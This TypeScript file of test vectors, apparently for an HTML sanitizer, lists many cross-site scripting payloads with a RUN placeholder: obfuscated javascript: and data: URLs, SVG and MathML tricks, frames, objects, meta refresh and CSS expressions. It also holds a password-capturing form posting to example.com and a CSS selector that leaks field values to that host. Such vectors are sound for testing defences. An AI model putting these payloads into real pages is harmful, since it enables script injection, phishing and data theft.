import type { Vectors } from './patterns.ts';

/** Ways to write an address that is a script. */
const SPELLINGS: Record<string, string> = {
  plain: 'javascript:RUN',
  'in mixed case': 'JaVaScRiPt:RUN',
  'with a tab': 'java\tscript:RUN',
  'with a line end': 'java\nscript:RUN',
  'with a tab as an entity': 'java&Tab;script:RUN',
  'with entities': '&#106;&#97;vascript&colon;RUN',
  'with hexadecimal entities': '&#x6A;&#x61;vascript&#x3A;RUN',
  'with entities that do not end': '&#0000106avascript:RUN',
  'behind spaces': ' \u00a0 javascript:RUN',
  'behind control characters': '\u0001\u001fjavascript:RUN',
  'behind a zero width space': '\u200bjavascript:RUN',
  'with a comment': 'javascript://%0aRUN',
  'with a host': 'javascript://example.com/%0d%0aRUN',
  'in per cent': 'javascript:%28RUN%29',
  'in a view of the source': 'view-source:javascript:RUN',
  'in a feed': 'feed:javascript:RUN',
  'in Visual Basic': 'vbscript:RUN',
  'in LiveScript': 'livescript:RUN',
  'in data': 'data:text/html,<script>RUN</script>',
  'in data in base64': 'data:text/html;base64,BASE64',
  'in a drawing': "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
  'of a blob': 'blob:https://example.com/0',
  'of a file': 'file:///etc/passwd',
  'of the browser': 'chrome://settings',
  'of an extension': 'moz-extension://0/popup.html',
};

const inLinks = Object.fromEntries(
  Object.entries(SPELLINGS).map(([name, address]) => [
    `link to a script ${name}`,
    `<a href="${address}">x</a>`,
  ]),
);

/** Attributes that take an address, each on an element that follows it. */
export const ADDRESSES: Vectors = {
  ...inLinks,
  'link in a new tab': '<a href="javascript:RUN" target=_blank>x</a>',
  'link with an opener': '<a href="https://example.com/" target=_blank rel=opener>x</a>',
  'link into our frame': '<a href="https://example.com/" target=_top>x</a>',
  'link that pings': '<a href="#" ping="javascript:RUN https://example.com/ping">x</a>',
  'link that downloads': '<a href="javascript:RUN" download=x.html>x</a>',
  'link with two addresses': '<a href="javascript:RUN" href="https://example.com/">x</a>',
  'link without quotes': '<a href=javascript:RUN>x</a>',
  'link in backquotes': '<a href=`javascript:RUN`>x</a>',
  'link by xlink': '<a xlink:href="javascript:RUN">x</a>',
  'link in svg': '<svg><a href="javascript:RUN"><text y=9>x</text></a></svg>',
  'link in svg by xlink': '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
  'link in svg that is set':
    '<svg><a><set attributeName=href to="javascript:RUN" /><text y=9>x</text></a></svg>',
  'link in svg that is set by xlink':
    '<svg><a><set attributeName=xlink:href to="javascript:RUN" /><text y=9>x</text></a></svg>',
  'link in svg that is animated':
    '<svg><a><animate attributeName=href values="javascript:RUN" /><text y=9>x</text></a></svg>',
  'link in svg, from and to':
    '<svg><a><animate attributeName=href from=javascript:RUN to=1 begin=0s fill=freeze /><text y=9>x</text></a></svg>',
  'link in svg animated from outside':
    '<svg><animate href=#far attributeName=href values=javascript:RUN /><a id=far><text y=9>x</text></a></svg>',
  'link in math': '<math><mi href="javascript:RUN">x</mi></math>',
  'link in math by xlink': '<math xlink:href="javascript:RUN"><mi>x</mi></math>',
  'link of an action in math':
    '<math><maction actiontype="statusline#javascript:RUN" xlink:href="javascript:RUN"><mi>x</mi></maction></math>',
  'link of a drawing in use':
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x\"/></svg>",
  'area of a map': '<map name=n><area href="javascript:RUN"></map><img usemap=#n src="PIXEL">',
  'base of all links': '<base href="javascript:RUN//"><a href="x">x</a>',
  'base that is elsewhere': '<base href="https://example.com/" target=_top><a href="x">x</a>',
  'form to a script': '<form action="javascript:RUN"><button>x</button></form>',
  'form by an input': '<form><input type=submit formaction="javascript:RUN" value=x></form>',
  'form by a button': '<form><button formaction="javascript:RUN">x</button></form>',
  'form by a picture': '<form><input type=image formaction="javascript:RUN" src="PIXEL"></form>',
  'form from outside':
    '<form id=out></form><button form=out formaction="javascript:RUN">x</button>',
  'form to another site':
    '<form action="https://example.com/"><input name=password autofocus><button>Sign in</button></form>',
  'index of old': '<isindex action="javascript:RUN" type=image>',
  'frame by address': '<iframe src="javascript:RUN"></iframe>',
  'frame by data': '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  'frame by content': '<iframe srcdoc="<script>RUN</script>"></iframe>',
  'frame by content in entities': '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  'frame in a sandbox':
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>RUN</script>"></iframe>',
  'frame of old': '<frameset><frame src="javascript:RUN"></frameset>',
  'frame with a fence': '<fencedframe src="javascript:RUN"></fencedframe>',
  'frame by a portal': '<portal src="javascript:RUN"></portal>',
  'object by data': '<object data="data:text/html,<script>RUN</script>"></object>',
  'object by address': '<object data="javascript:RUN"></object>',
  'object by its parameter':
    '<object><param name=src value="javascript:RUN"><param name=movie value="javascript:RUN"></object>',
  'object with words': '<object data="javascript:RUN"><img src=x onerror="RUN"></object>',
  'embed by address': '<embed src="javascript:RUN">',
  'embed by data': '<embed src="data:text/html,<script>RUN</script>" type=text/html>',
  'embed by code': '<embed code="javascript:RUN" allowscriptaccess=always>',
  applet: '<applet code="javascript:RUN" archive=x></applet>',
  'import of a page': '<link rel=import href="data:text/html,<script>RUN</script>">',
  'import of a sheet': '<link rel=stylesheet href="javascript:RUN">',
  icon: '<link rel=icon href="javascript:RUN">',
  prefetch:
    '<link rel=prefetch href="https://example.com/"><link rel=dns-prefetch href="//example.com">',
  manifest: '<link rel=manifest href="https://example.com/manifest.json">',
  'refresh to a script': '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  'refresh to data':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
  'policy of their own':
    '<meta http-equiv=Content-Security-Policy content="script-src *"><img src=x onerror="RUN">',
  'referrer of their own':
    '<meta name=referrer content=unsafe-url><img src="https://example.com/pixel">',
  'style by address': '<p style="background:url(javascript:RUN)">x</p>',
  'style by expression': '<p style="width:expression(RUN)">x</p>',
  'style by binding': '<p style="-moz-binding:url(data:text/xml,RUN);behavior:url(x)">x</p>',
  'style that covers us':
    '<a href="https://example.com/" style="position:fixed;inset:0;z-index:9999">x</a>',
  'style that imports':
    '<style>@import "javascript:RUN"; p{background:url(javascript:RUN)}</style>',
  'style that looks at fields':
    '<style>input[value^=a]{background:url(https://example.com/a)}</style>',
  'picture by a script':
    '<img src="javascript:RUN" srcset="javascript:RUN 2x" lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  'picture by its source': '<picture><source srcset="javascript:RUN"><img src="PIXEL"></picture>',
  'picture that is a page': '<img src="data:text/html,<script>RUN</script>">',
  'picture with a long story': '<img src="PIXEL" longdesc="javascript:RUN">',
  'quotation with a source':
    '<blockquote cite="javascript:RUN">x</blockquote><q cite="javascript:RUN">x</q>',
  'change with a source': '<ins cite="javascript:RUN">x</ins><del cite="javascript:RUN">x</del>',
};
